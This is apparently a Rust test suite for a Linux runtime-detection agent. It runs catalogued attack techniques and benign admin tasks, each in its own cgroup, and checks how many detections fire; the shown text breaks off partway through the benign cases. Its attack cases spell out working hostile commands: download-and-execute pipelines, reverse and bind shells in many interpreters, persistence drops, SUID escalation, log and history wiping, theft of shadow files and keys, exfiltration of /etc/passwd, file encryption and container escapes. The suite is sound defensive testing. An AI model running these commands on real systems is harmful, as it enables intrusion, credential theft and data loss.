//! The attack suite (issue 19): Linux techniques as the public catalogues write them
//! (Atomic Red Team's Linux atomics, GTFOBins' shell, reverse-shell, file-read, SUID, sudo
//! and capabilities functions, MITRE ATT&CK for Linux and containers) and what admins and
//! build systems really do, each case run for real in a cgroup of its own against one agent
//! with the shipped defaults. A case is detected when any detection carries its cgroup; the
//! suite asserts the share of attacks detected and that no benign case is flagged, and
//! prints the whole table (case, technique, rules or why not).
//!
//! The cases are data, written from the catalogues and not from the rule list: the forms
//! attackers type (pipes, here-strings, fd juggling, `$(...)`, different interpreters and
//! drop directories). Each runs as `bash CASE.sh` started by `spawn_detached` (an orphan
//! below init, as an intruder's shell would be, not below `cargo`), from a script kept in
//! /var/lib so the pipelines are typed, not passed in a command line. Reverse shells reach
//! a listener of this test that answers `exit`; downloads come from a local
//! `python3 -m http.server`. Nothing leaves the machine: the metadata query runs in an
//! empty network namespace, and every file a case writes outside its scratch directories is
//! created fresh and removed.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use rasp_tests::{
    container_cgroup, free_loopback_port, harmless_library, output_within, process_gone,
    require_root, spawn_detached, unique_name, wait_for, Agent, Cgroup, Scratch,
};

/// The share of attack cases that must be detected (the issue's goal).
const REQUIRED_RATIO: f64 = 0.90;
/// How long one case may run before its cgroup is killed (most take a fraction of a second;
/// the package install and the virtualenv take a few).
const CASE_DEADLINE: Duration = Duration::from_secs(60);
/// How long after the last case the agent may take to show its detections.
const REPORT_DEADLINE: Duration = Duration::from_secs(2);

#[derive(Clone, Copy, PartialEq)]
enum Kind {
    Attack,
    Benign,
}

struct Case {
    id: &'static str,
    /// ATT&CK technique (or what the benign case stands for).
    technique: &'static str,
    kind: Kind,
    /// Bash source, after the prelude that names the scratch places.
    body: String,
    /// Run in a cgroup named like a Docker container's.
    container: bool,
}

fn attack(id: &'static str, technique: &'static str, body: impl Into<String>) -> Case {
    Case {
        id,
        technique,
        kind: Kind::Attack,
        body: body.into(),
        container: false,
    }
}

fn benign(id: &'static str, what: &'static str, body: impl Into<String>) -> Case {
    Case {
        id,
        technique: what,
        kind: Kind::Benign,
        body: body.into(),
        container: false,
    }
}

impl Case {
    fn in_container(mut self) -> Case {
        self.container = true;
        self
    }
}

/// The programs the cases run, with the Debian package that has each.
const TOOLS: &[(&str, &str)] = &[
    ("/usr/bin/curl", "curl"),
    ("/usr/bin/wget", "wget"),
    ("/usr/bin/python3", "python3"),
    ("/usr/bin/perl", "perl"),
    ("/usr/bin/ruby", "ruby"),
    ("/usr/bin/php", "php-cli"),
    ("/usr/bin/lua5.4", "lua5.4"),
    ("/usr/bin/node", "nodejs"),
    ("/usr/bin/gawk", "gawk"),
    ("/usr/bin/openssl", "openssl"),
    ("/usr/bin/busybox", "busybox-static"),
    ("/usr/bin/socat", "socat"),
    ("/usr/bin/nc.traditional", "netcat-traditional"),
    ("/usr/bin/xxd", "xxd"),
    ("/usr/sbin/setcap", "libcap2-bin"),
    ("/usr/bin/strace", "strace"),
    ("/usr/bin/gdb", "gdb"),
    ("/usr/bin/vim.basic", "vim"),
    ("/usr/bin/zip", "zip"),
    ("/usr/bin/nsenter", "util-linux"),
    ("/usr/sbin/iptables", "iptables"),
    ("/usr/sbin/nft", "nftables"),
    ("/usr/bin/chattr", "e2fsprogs"),
    ("/usr/sbin/insmod", "kmod"),
    ("/usr/bin/crontab", "cron"),
    ("/usr/bin/sudo", "sudo"),
    ("/usr/bin/cc", "gcc"),
    ("/usr/bin/make", "make"),
    ("/usr/bin/pytest", "python3-pytest"),
    ("/usr/bin/ssh-keygen", "openssh-client"),
    ("/usr/sbin/logrotate", "logrotate"),
    ("/usr/bin/systemctl", "systemd"),
    ("/usr/bin/script", "bsdutils"),
    ("/usr/sbin/useradd", "passwd"),
    ("/usr/bin/tcpdump", "tcpdump"),
    ("/usr/bin/ping", "iputils-ping"),
];

/// The attack cases. Variables from the prelude: T (/tmp), V (/var/tmp), S (/dev/shm)
/// scratch directories, U a user's home, W a work directory under /var/lib, H the local
/// download server's URL, LP the reverse-shell listener's port, BP a free port, N a unique
/// name, IMPLANT a program to download (`$H/x`).
fn attacks() -> Vec<Case> {
    vec![
        // --- Execution: download or decode, then run ---------------------------------
        attack("curl-pipe-sh", "T1059.004", "curl -fsSL $H/p.sh | sh"),
        attack("wget-pipe-bash", "T1059.004", "wget -q -O- $H/p.sh | bash"),
        attack(
            "curl-substituted-bash",
            "T1059.004",
            r#"bash -c "$(curl -fsSL $H/p.sh)""#,
        ),
        attack(
            "curl-process-substitution",
            "T1059.004",
            "bash <(curl -s $H/p.sh)",
        ),
        attack(
            "base64-pipe-bash",
            "T1140",
            "echo aWQgPiAvZGV2L251bGwK | base64 -d | bash",
        ),
        attack(
            "base64-here-string-eval",
            "T1140",
            r#"eval "$(base64 --decode <<< aWQgPiAvZGV2L251bGwK)""#,
        ),
        attack(
            "base64-substituted-bash",
            "T1140",
            r#"bash -c "$(echo aWQgPiAvZGV2L251bGwK | base64 -d)""#,
        ),
        attack(
            "xxd-hex-pipe-sh",
            "T1140",
            "xxd -r -p <<< 6964203e202f6465762f6e756c6c0a | sh",
        ),
        attack(
            "openssl-base64-pipe-sh",
            "T1140",
            "echo aWQgPiAvZGV2L251bGwK | openssl base64 -d | sh",
        ),
        attack(
            "gzip-base64-pipe-sh",
            "T1027",
            "echo H4sIAAAAAAAAA8tMUbBT0E9JLdPPK83J4QIAymI38g8AAAA= | base64 -d | gunzip | sh",
        ),
        attack(
            "rev-obfuscated-pipe-sh",
            "T1027",
            "echo 'llun/ved/ > di' | rev | sh",
        ),
        attack(
            "python-urlopen-exec",
            "T1059.006",
            r#"python3 -c "import urllib.request as u; exec(u.urlopen('$H/p.py').read())""#,
        ),
        attack("curl-pipe-python", "T1059.006", "curl -s $H/p.py | python3"),
        attack(
            "perl-base64-eval",
            "T1059",
            r#"perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgIiI7"))'"#,
        ),
        attack("curl-pipe-node", "T1059.007", "curl -s $H/p.js | node"),
        attack(
            "busybox-wget-pipe-sh",
            "T1059.004",
            "busybox wget -qO- $H/p.sh | busybox sh",
        ),
        attack(
            "env-clean-wget-substituted",
            "T1059.004",
            r#"env -i /bin/sh -c "$(wget -qO- $H/p.sh)""#,
        ),
        attack(
            "download-run-binary-tmp",
            "T1105",
            "curl -so $T/upd $H/x && chmod +x $T/upd && $T/upd",
        ),
        attack(
            "download-run-binary-shm",
            "T1105",
            "wget -qO $S/k $H/x; chmod 755 $S/k; $S/k",
        ),
        attack(
            "download-run-hidden-var-tmp",
            "T1564.001",
            "mkdir -p $V/.cache && curl -so $V/.cache/kthreadd $H/x && \
             chmod +x $V/.cache/kthreadd && $V/.cache/kthreadd",
        ),
        attack(
            "sh-script-from-shm",
            "T1059.004",
            "curl -so $S/i.sh $H/p.sh; sh $S/i.sh",
        ),
        attack(
            "python-script-from-tmp",
            "T1059.006",
            "curl -so $T/x.py $H/p.py; python3 $T/x.py",
        ),
        attack(
            "perl-script-from-var-tmp",
            "T1059",
            r#"printf 'print "";\n' > $V/x.pl; perl $V/x.pl"#,
        ),
        attack(
            "shebang-script-tmp",
            "T1059.004",
            r#"printf '#!/bin/sh\nid > /dev/null\n' > $T/run; chmod +x $T/run; $T/run"#,
        ),
        attack(
            "relative-script-in-tmp",
            "T1059.004",
            "curl -so $T/i.sh $H/p.sh; cd $T && bash i.sh",
        ),
        attack(
            "memfd-fileless-python",
            "T1620",
            r#"python3 -c 'import os; fd = os.memfd_create("x", 0); os.write(fd, open("/bin/true", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["kworker"])'"#,
        ),
        attack(
            "masquerade-sshd-in-tmp",
            "T1036.005",
            "cp /bin/true $T/sshd; $T/sshd -D",
        ),
        attack(
            "hidden-binary-in-home",
            "T1564.001",
            "cp /bin/true $U/.dbus-session; $U/.dbus-session",
        ),
        // --- Reverse and bind shells -------------------------------------------------
        attack(
            "bash-dev-tcp",
            "T1059.004",
            "bash -i >& /dev/tcp/127.0.0.1/$LP 0>&1",
        ),
        attack(
            "bash-dev-tcp-fd-loop",
            "T1059.004",
            "exec 5<>/dev/tcp/127.0.0.1/$LP; cat <&5 | while read line; do $line 2>&5 >&5; done",
        ),
        attack(
            "sh-fd-196",
            "T1059.004",
            "0<&196; exec 196<>/dev/tcp/127.0.0.1/$LP; sh <&196 >&196 2>&196",
        ),
        attack("nc-e", "T1059.004", "nc -e /bin/sh 127.0.0.1 $LP"),
        attack(
            "mkfifo-nc",
            "T1059.004",
            "rm -f $T/f; mkfifo $T/f; cat $T/f | /bin/sh -i 2>&1 | nc 127.0.0.1 $LP > $T/f",
        ),
        attack(
            "busybox-nc-e",
            "T1059.004",
            "busybox nc 127.0.0.1 $LP -e /bin/sh",
        ),
        attack(
            "socat-exec-pty",
            "T1059.004",
            "socat tcp-connect:127.0.0.1:$LP exec:'bash -li',pty,stderr,setsid,sigint,sane",
        ),
        attack(
            "python-pty-spawn",
            "T1059.006",
            r#"python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",'$LP'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'"#,
        ),
        attack(
            "perl-socket",
            "T1059",
            r#"perl -e 'use Socket;$i="127.0.0.1";$p='$LP';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'"#,
        ),
        attack(
            "perl-io-socket-system",
            "T1059",
            r#"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:'$LP'");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"#,
        ),
        attack(
            "ruby-tcpsocket",
            "T1059",
            r#"ruby -rsocket -e 'f=TCPSocket.open("127.0.0.1",'$LP').to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'"#,
        ),
        attack(
            "php-fsockopen",
            "T1059",
            r#"php -r '$sock=fsockopen("127.0.0.1",'$LP');exec("/bin/sh -i <&3 >&3 2>&3");'"#,
        ),
        attack(
            "php-proc-open",
            "T1059",
            r#"php -r '$s=fsockopen("127.0.0.1",'$LP');$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'"#,
        ),
        attack(
            "lua-os-execute",
            "T1059",
            r#"lua5.4 -e 'os.execute("bash -c \"bash -i >& /dev/tcp/127.0.0.1/'$LP' 0>&1\"")'"#,
        ),
        attack(
            "node-child-process",
            "T1059.007",
            r#"node -e 'const n=require("net"),c=require("child_process");const s=n.connect('$LP',"127.0.0.1",()=>{const sh=c.spawn("/bin/sh",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);});s.on("error",()=>{})'"#,
        ),
        attack(
            "gawk-inet-tcp",
            "T1059",
            r#"gawk 'BEGIN {s = "/inet/tcp/0/127.0.0.1/'$LP'"; while(42) { do{ printf "> " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit"); close(s); exit } }'"#,
        ),
        attack(
            "openssl-s-client-fifo",
            "T1573",
            "rm -f $T/s; mkfifo $T/s; /bin/sh -i < $T/s 2>&1 | \
             openssl s_client -quiet -connect 127.0.0.1:$LP > $T/s",
        ),
        attack(
            "bash-dev-udp",
            "T1095",
            "timeout -s KILL 2 bash -c 'sh -i >& /dev/udp/127.0.0.1/'$LP' 0>&1'",
        ),
        attack(
            "nc-bind-shell",
            "T1059.004",
            "nc -l -p $BP -e /bin/bash & sleep 0.3; echo exit | nc -q 1 127.0.0.1 $BP; wait",
        ),
        attack(
            "socat-bind-shell",
            "T1059.004",
            "socat TCP-LISTEN:$BP,bind=127.0.0.1,reuseaddr EXEC:/bin/sh & sleep 0.3; \
             echo exit | socat - TCP:127.0.0.1:$BP; wait",
        ),
        // --- Persistence -------------------------------------------------------------
        attack(
            "cron-d-file",
            "T1053.003",
            "echo '@reboot root /bin/true # $N' > /etc/cron.d/$N",
        ),
        attack(
            "crontab-from-pipe",
            "T1053.003",
            "(crontab -u nobody -l 2>/dev/null; echo '@reboot /var/tmp/.x') | crontab -u nobody -",
        ),
        attack(
            "authorized-keys-append",
            "T1098.004",
            "mkdir -p $U/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDk attacker' >> $U/.ssh/authorized_keys",
        ),
        attack(
            "bashrc-append",
            "T1546.004",
            "echo 'nohup bash -i >& /dev/tcp/127.0.0.1/9 0>&1 &' >> $U/.bashrc",
        ),
        attack(
            "profile-tee-append",
            "T1546.004",
            "echo '/var/tmp/.x &' | tee -a $U/.profile > /dev/null",
        ),
        attack(
            "bash-logout-append",
            "T1546.004",
            "printf '/var/tmp/.x\\n' >> $U/.bash_logout",
        ),
        attack(
            "systemd-system-unit",
            "T1543.002",
            r#"printf '[Service]\nExecStart=/var/tmp/.x\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/$N.service"#,
        ),
        attack(
            "systemd-user-unit",
            "T1543.002",
            r#"mkdir -p $U/.config/systemd/user && printf '[Service]\nExecStart=/var/tmp/.x\n' > $U/.config/systemd/user/upd.service"#,
        ),
        attack(
            "xdg-autostart",
            "T1547.013",
            r#"mkdir -p $U/.config/autostart && printf '[Desktop Entry]\nType=Application\nExec=/var/tmp/.x\n' > $U/.config/autostart/upd.desktop"#,
        ),
        attack(
            "profile-d-script",
            "T1546.004",
            "echo ': $N' > /etc/profile.d/$N.sh",
        ),
        attack(
            "useradd-uid0-backdoor",
            "T1136.001",
            "useradd -o -u 0 -g 0 -M -d /nonexistent -s /bin/bash $N",
        ),
        attack(
            "sudoers-d-drop",
            "T1548.003",
            "echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/$N.disabled",
        ),
        attack(
            "udev-rule-drop",
            "T1546.017",
            r#"echo 'ACTION=="add", RUN+="/var/tmp/.x"' > /etc/udev/rules.d/99-$N.rules"#,
        ),
        attack(
            "apt-hook-drop",
            "T1546",
            r#"echo 'APT::Update::Pre-Invoke {"true";};' > /etc/apt/apt.conf.d/99$N"#,
        ),
        attack(
            "ld-so-preload-write",
            "T1574.006",
            "printf '' >> /etc/ld.so.preload",
        ),
        // --- Privilege escalation ----------------------------------------------------
        attack(
            "chmod-u+s-copy",
            "T1548.001",
            "cp /bin/bash $T/.sh && chmod u+s $T/.sh",
        ),
        attack(
            "chmod-4755-copy",
            "T1548.001",
            "cp /bin/dash $V/rootsh && chmod 4755 $V/rootsh",
        ),
        attack(
            "install-mode-4755",
            "T1548.001",
            "install -m 4755 /bin/dash $T/dash",
        ),
        attack(
            "python-chmod-setgid",
            "T1548.001",
            r#"cp /bin/true $V/t && python3 -c 'import os; os.chmod("'$V'/t", 0o6755)'"#,
        ),
        attack(
            "setcap-setuid-python",
            "T1548",
            "cp /usr/bin/python3.11 $T/py && setcap cap_setuid+ep $T/py",
        ),
        attack(
            "sudo-uid-minus-one",
            "T1548.003",
            "sudo -n -u#-1 /bin/true",
        ),
        attack(
            "gtfobins-find-exec-sh",
            "T1059.004",
            r"find . -maxdepth 0 -exec /bin/sh -p \; -quit",
        ),
        attack(
            "gtfobins-tar-checkpoint",
            "T1059.004",
            "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        ),
        attack(
            "gtfobins-awk-system",
            "T1059.004",
            r#"awk 'BEGIN {system("/bin/sh")}'"#,
        ),
        attack(
            "gtfobins-vim-shell",
            "T1059.004",
            "vim.basic -u NONE -Es -c ':!/bin/sh' -c ':q!'",
        ),
        attack(
            "gtfobins-python-execl",
            "T1059.006",
            r#"python3 -c 'import os; os.execl("/bin/sh", "sh", "-p")'"#,
        ),
        attack(
            "gtfobins-perl-exec",
            "T1059",
            r#"perl -e 'exec "/bin/sh";'"#,
        ),
        attack(
            "gtfobins-zip-tt",
            "T1059.004",
            "zip $T/z.zip /etc/hostname -T -TT 'sh #'",
        ),
        // --- Defense evasion ---------------------------------------------------------
        attack(
            "history-rm",
            "T1070.003",
            "rm -f $U/.bash_history",
        ),
        attack(
            "history-symlink-null",
            "T1070.003",
            "ln -sf /dev/null $U/.zsh_history",
        ),
        attack(
            "history-truncate-redirect",
            "T1070.003",
            "cat /dev/null > $U/.python_history",
        ),
        attack(
            "history-builtins",
            "T1070.003",
            "set +o history; unset HISTFILE; export HISTSIZE=0; history -c",
        ),
        attack("log-rm", "T1070.002", "rm -f /var/log/$N-a.log"),
        attack(
            "log-truncate-tool",
            "T1070.002",
            "truncate -s 0 /var/log/$N-b.log",
        ),
        attack("log-echo-redirect", "T1070.002", "echo > /var/log/$N-c.log"),
        attack("log-shred", "T1070.002", "shred -zu /var/log/$N-d.log"),
        attack(
            "timestomp-reference",
            "T1070.006",
            "touch -r /bin/ls /usr/local/bin/$N",
        ),
        attack(
            "timestomp-explicit",
            "T1070.006",
            "touch -t 202001010000 /usr/local/sbin/$N",
        ),
        attack(
            "auditd-stop",
            "T1562.001",
            "systemctl stop auditd; systemctl disable auditd",
        ),
        attack(
            "iptables-flush",
            "T1562.004",
            "unshare -n sh -c 'iptables -P INPUT ACCEPT; iptables -F'",
        ),
        attack(
            "nft-flush",
            "T1562.004",
            "unshare -n nft flush ruleset",
        ),
        attack(
            "chattr-remove-immutable",
            "T1222.002",
            "chattr -i /var/tmp/$N",
        ),
        attack(
            "ld-preload-tmp-library",
            "T1574.006",
            "LD_PRELOAD=$T/libx.so /bin/true",
        ),
        attack(
            "ld-preload-shm-library",
            "T1574.006",
            "LD_PRELOAD=$S/libx.so ls /",
        ),
        attack(
            "insmod-from-tmp",
            "T1547.006",
            "insmod $T/rootkit.ko",
        ),
        // --- Credential access -------------------------------------------------------
        attack("cat-shadow", "T1003.008", "cat /etc/shadow"),
        attack("cp-shadow", "T1003.008", "cp /etc/shadow $T/.s"),
        attack(
            "python-read-shadow",
            "T1003.008",
            r#"python3 -c "print(open('/etc/shadow').read())""#,
        ),
        attack("head-gshadow", "T1003.008", "head -3 /etc/gshadow"),
        attack("cat-ssh-key", "T1552.004", "cat $U/.ssh/id_rsa"),
        attack("tar-ssh-dir", "T1552.004", "tar czf $T/k.tgz -C $U .ssh"),
        attack(
            "find-private-keys",
            "T1552.004",
            "find /home /root -name 'id_rsa*' 2>/dev/null",
        ),
        attack(
            "grep-passwords",
            "T1552.001",
            "grep -rni 'password' /etc 2>/dev/null",
        ),
        attack("cat-aws-credentials", "T1552.001", "cat $U/.aws/credentials"),
        attack(
            "gdb-attach",
            "T1003.007",
            "sleep 5 & gdb -p $! -batch -ex 'info proc' > /dev/null 2>&1; kill $!",
        ),
        attack(
            "tcpdump-capture",
            "T1040",
            "timeout 2 tcpdump -c 1 -nni lo -w /dev/null > /dev/null 2>&1 & \
             sleep 0.5; curl -s -o /dev/null $H/ || true; wait",
        ),
        attack(
            "python-packet-socket",
            "T1040",
            "python3 -c 'import socket\n\
             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n\
             s.settimeout(0.5)\n\
             try: s.recv(65535)\n\
             except OSError: pass'",
        ),
        attack(
            "python-raw-tcp-socket",
            "T1040",
            "python3 -c 'import socket\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)\n\
             s.settimeout(0.5)\n\
             try: s.recv(65535)\n\
             except OSError: pass'",
        ),
        attack(
            "strace-sniff",
            "T1056",
            "sleep 5 & timeout 1 strace -p $! -e trace=read -o /dev/null; kill $!",
        ),
        attack(
            "proc-mem-dd",
            "T1003.007",
            "sleep 5 & P=$!; grep -m1 heap /proc/$P/maps > /dev/null; \
             dd if=/proc/$P/mem bs=4096 count=0 2>/dev/null; kill $P",
        ),
        // --- Discovery that matters --------------------------------------------------
        attack(
            "find-suid",
            "T1548.001",
            "find /usr/bin /usr/sbin -perm -4000 -type f 2>/dev/null",
        ),
        attack(
            "getcap-recursive",
            "T1548",
            "getcap -r /usr/bin 2>/dev/null",
        ),
        attack(
            "cloud-metadata-credentials",
            "T1552.005",
            "unshare -n curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        ),
        attack(
            "nc-port-scan",
            "T1046",
            "nc -zvn -w 1 127.0.0.1 20-25 2>/dev/null",
        ),
        attack(
            "docker-socket-query",
            "T1613",
            "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
        ),
        // --- Exfiltration and C2 -----------------------------------------------------
        attack(
            "curl-upload-passwd",
            "T1048",
            r#"curl -s -F "f=@/etc/passwd" $H/upload"#,
        ),
        attack(
            "wget-post-file",
            "T1048",
            "wget -q --post-file=/etc/passwd $H/u -O /dev/null",
        ),
        attack(
            "nc-send-file",
            "T1048",
            "nc -q 1 127.0.0.1 $LP < /etc/passwd",
        ),
        attack(
            "cat-pipe-nc",
            "T1048",
            "cat /etc/passwd | nc -q 1 127.0.0.1 $LP",
        ),
        attack(
            "socat-send-file",
            "T1048",
            "socat -u FILE:/etc/passwd TCP:127.0.0.1:$LP",
        ),
        // --- Impact -------------------------------------------------------------------
        attack(
            "miner-hidden-var-tmp",
            "T1496",
            "cp /bin/true $V/.xmrig; $V/.xmrig -o stratum+tcp://pool.invalid:3333 -u w -p x --donate-level 1",
        ),
        attack(
            "openssl-encrypt-files",
            "T1486",
            "for f in $W/docs/*; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:k \
             -in \"$f\" -out \"$f.locked\" && rm -f \"$f\"; done",
        ),
        // --- Containers and the host ---------------------------------------------------
        attack(
            "nsenter-pid1",
            "T1611",
            "nsenter -t 1 -m -u -i -n -p -- /bin/true",
        ),
        attack(
            "nsenter-pid1-from-container",
            "T1611",
            "nsenter --target 1 --mount --uts --ipc --net --pid -- sh -c true",
        )
        .in_container(),
        attack(
            "core-pattern-write",
            "T1611",
            "cat /proc/sys/kernel/core_pattern > $T/cp; cat $T/cp > /proc/sys/kernel/core_pattern",
        )
        .in_container(),
        attack(
            "cgroup-release-agent",
            "T1611",
            "mkdir -p $T/cg; unshare -m sh -c \"mount -t cgroup -o none,name=$N cgroup $T/cg && \
             echo /var/tmp/.x > $T/cg/release_agent; umount $T/cg\"",
        )
        .in_container(),
        attack(
            "docker-socket-from-container",
            "T1611",
            "curl -s --unix-socket /var/run/docker.sock http://localhost/version",
        )
        .in_container(),
        attack(
            "host-disk-mount-in-container",
            "T1611",
            "mkdir -p $T/m; unshare -m sh -c \"mount /dev/vda $T/m && ls $T/m > /dev/null; umount $T/m\"",
        )
        .in_container(),
    ]
}

/// What admins and build systems do, which must produce no detection.
fn benign_cases() -> Vec<Case> {
    vec![
        benign(
            "apt-install-local-deb",
            "package install on the host",
            r#"umask 022
mkdir -p $W/pkg/DEBIAN $W/pkg/usr/local/lib/$N
printf 'Package: %s\nVersion: 1.0\nArchitecture: all\nMaintainer: rasp <rasp@test.invalid>\nDescription: attack suite benign package\n' $N > $W/pkg/DEBIAN/control
cp /bin/true $W/pkg/usr/local/lib/$N/helper
dpkg-deb --build --root-owner-group $W/pkg $W/$N.deb > /dev/null
apt-get install -y -q -o DPkg::Lock::Timeout=300 $W/$N.deb > /dev/null 2>&1
apt-get remove -y -q -o DPkg::Lock::Timeout=300 $N > /dev/null 2>&1"#,
        ),
        benign(
            "crontab-edit",
            "crontab by the crontab tool",
            r#"crontab -u nobody -l > $W/cron.saved 2>/dev/null || true
(cat $W/cron.saved; echo '17 3 * * * /usr/bin/find /tmp -mtime +7 -delete') | crontab -u nobody -
crontab -u nobody -l > /dev/null
if [ -s $W/cron.saved ]; then crontab -u nobody $W/cron.saved; else crontab -u nobody -r; fi"#,
        ),
        benign(
            "sudo",
            "sudo",
            "sudo -n true; sudo -n -u nobody id > /dev/null; sudo -n sh -c 'echo ok' > /dev/null",
        ),
        benign(
            "git-clone-commit",
            "git",
            r#"git init -q --bare $W/origin.git
git clone -q file://$W/origin.git $T/clone 2>/dev/null
cd $T/clone && echo hi > README && git add README
git -c user.name=a -c user.email=a@b.invalid commit -q -m init
git push -q origin HEAD 2>/dev/null; git log --oneline > /dev/null"#,
        ),
        benign(
            "cc-build-run-in-tmp",
            "cc build running its output from /tmp",
            r#"printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' > $T/hello.c
cc -O2 -o $T/hello $T/hello.c && $T/hello > /dev/null
cd $T && cc -o hello2 hello.c && ./hello2 > /dev/null"#,
        ),
        benign(
            "make-build-in-tmp",
            "make with a generator script",
            r##"mkdir -p $T/proj && cd $T/proj
printf '#!/bin/sh\necho "#define N 3" > gen.h\n' > gen.sh && chmod +x gen.sh
printf '#include "gen.h"\nint main(void){return N-3;}\n' > m.c
printf 'all: m\n\t./m\nm: m.c gen.h\n\tcc -o m m.c\ngen.h: gen.sh\n\t./gen.sh\n' > Makefile
make -s > /dev/null"##,
        ),
        benign(
            "tarball-build-in-tmp",
            "source tarball built and run in /tmp",
            r#"mkdir -p $T/src/tool-1.0 && cd $T/src
printf 'int main(void){return 0;}\n' > tool-1.0/main.c
printf 'tool: main.c\n\tcc -o tool main.c\n' > tool-1.0/Makefile
tar czf tool-1.0.tar.gz tool-1.0 && rm -rf tool-1.0 && tar xzf tool-1.0.tar.gz
cd tool-1.0 && make -s && ./tool"#,
        ),
        benign(
            "pytest-in-tmp",
            "pytest in /tmp",
            r#"mkdir -p $T/pt && cd $T/pt
printf 'def test_sum():\n    assert 1 + 1 == 2\n' > test_sum.py
python3 -m pytest -q -p no:cacheprovider > /dev/null && pytest -q -p no:cacheprovider > /dev/null"#,
        ),
        benign(
            "systemctl-queries",
            "systemctl",
            "systemctl --version > /dev/null; systemctl status cron > /dev/null 2>&1 || true; \
             systemctl is-enabled cron > /dev/null 2>&1 || true; \
             systemctl list-unit-files --no-pager > /dev/null 2>&1 || true",
        ),
        benign(
            "ssh-keygen",
            "ssh key generation",
            "ssh-keygen -q -t ed25519 -N '' -f $T/id_ed25519 && ssh-keygen -y -f $T/id_ed25519 > /dev/null \
             && ssh-keygen -lf $T/id_ed25519.pub > /dev/null",
        ),
        benign(
            "tar-backup-etc",
            "tar backup of /etc",
            "tar czf $W/etc-backup.tgz /etc 2>/dev/null; tar tzf $W/etc-backup.tgz > /dev/null",
        ),
        benign(
            "logrotate",
            "log rotation",
            r#"for i in 1 2 3; do echo "line $i" >> /var/log/$N-rot.log; done
printf '/var/log/%s-rot.log {\n  rotate 2\n  compress\n  missingok\n  create 0640 root root\n}\n' $N > $W/logrotate.conf
logrotate -f -s $W/logrotate.state $W/logrotate.conf"#,
        ),
        benign(
            "inventory-tools",
            "ps, ss and friends",
            "ps aux > /dev/null; ss -tlnp > /dev/null; ip addr > /dev/null; df -h > /dev/null; \
             free -m > /dev/null; uptime > /dev/null; id > /dev/null; uname -a > /dev/null; \
             lsof -p $$ > /dev/null 2>&1 || true",
        ),
        benign(
            "curl-wget-download-to-file",
            "downloads to a file",
            "curl -fsSL -o $W/p.sh $H/p.sh && sha256sum $W/p.sh > /dev/null; \
             wget -q -O $W/x.bin $H/x && cmp -s $W/x.bin $W/x.bin",
        ),
        benign(
            "curl-pipe-checksum",
            "download piped to a checksum",
            "curl -s $H/p.sh | sha256sum > /dev/null; curl -s $H/p.py | grep -c import > /dev/null",
        ),
        benign(
            "pip-install-in-venv",
            "pip install in a virtualenv",
            r#"mkdir -p $W/pkgsrc/suitepkg
printf 'from setuptools import setup\nsetup(name="suitepkg", version="1.0", packages=["suitepkg"])\n' > $W/pkgsrc/setup.py
printf 'X = 1\n' > $W/pkgsrc/suitepkg/__init__.py
python3 -m venv $T/venv
$T/venv/bin/pip install -q --no-index --no-build-isolation $W/pkgsrc 2>/dev/null
$T/venv/bin/python -c 'import suitepkg' "#,
        ),
        benign(
            "docker-build",
            "docker build from local files",
            r#"mkdir -p $W/img && cp /bin/true $W/img/true
printf 'FROM scratch\nCOPY true /true\n' > $W/img/Dockerfile
docker build -q -t $N:1 $W/img > /dev/null && docker image rm $N:1 > /dev/null"#,
        ),
        benign(
            "vim-edit-bashrc-on-tty",
            "an editor saving ~/.bashrc at a terminal",
            r#"script -qec "vim.basic -u NONE -i NONE -n -c 'normal Goalias ll=ls' -c wq $U/.bashrc" /dev/null > /dev/null"#,
        ),
        benign(
            "useradd-userdel",
            "account created and removed",
            "useradd -m -d /home/$N-b -s /bin/bash $N-b && id $N-b > /dev/null && userdel $N-b 2>/dev/null",
        ),
        benign(
            "log-reading",
            "reading logs",
            "journalctl -n 5 --no-pager > /dev/null 2>&1 || true; dmesg 2>/dev/null | tail -n 3 > /dev/null; \
             tail -n 5 /var/log/dpkg.log > /dev/null 2>&1 || true",
        ),
        benign(
            "node-npm",
            "node and npm",
            "node -e 'console.log(JSON.stringify({a:1}))' > /dev/null; npm --version > /dev/null 2>&1",
        ),
        benign(
            "openssl-cert",
            "self-signed certificate",
            "openssl req -x509 -newkey rsa:2048 -nodes -keyout $W/k.pem -out $W/c.pem \
             -subj /CN=suite -days 1 2>/dev/null && openssl x509 -in $W/c.pem -noout -subject > /dev/null",
        ),
        benign(
            "base64-files",
            "encoding files",
            "base64 /etc/hostname > $W/h.b64 && base64 -d $W/h.b64 > $W/h && cmp /etc/hostname $W/h",
        ),
        benign(
            "nc-port-check",
            "one port checked",
            "nc -z -w 1 127.0.0.1 $HP",
        ),
        benign(
            "download-read-into-variable",
            "a script reading a value from a download",
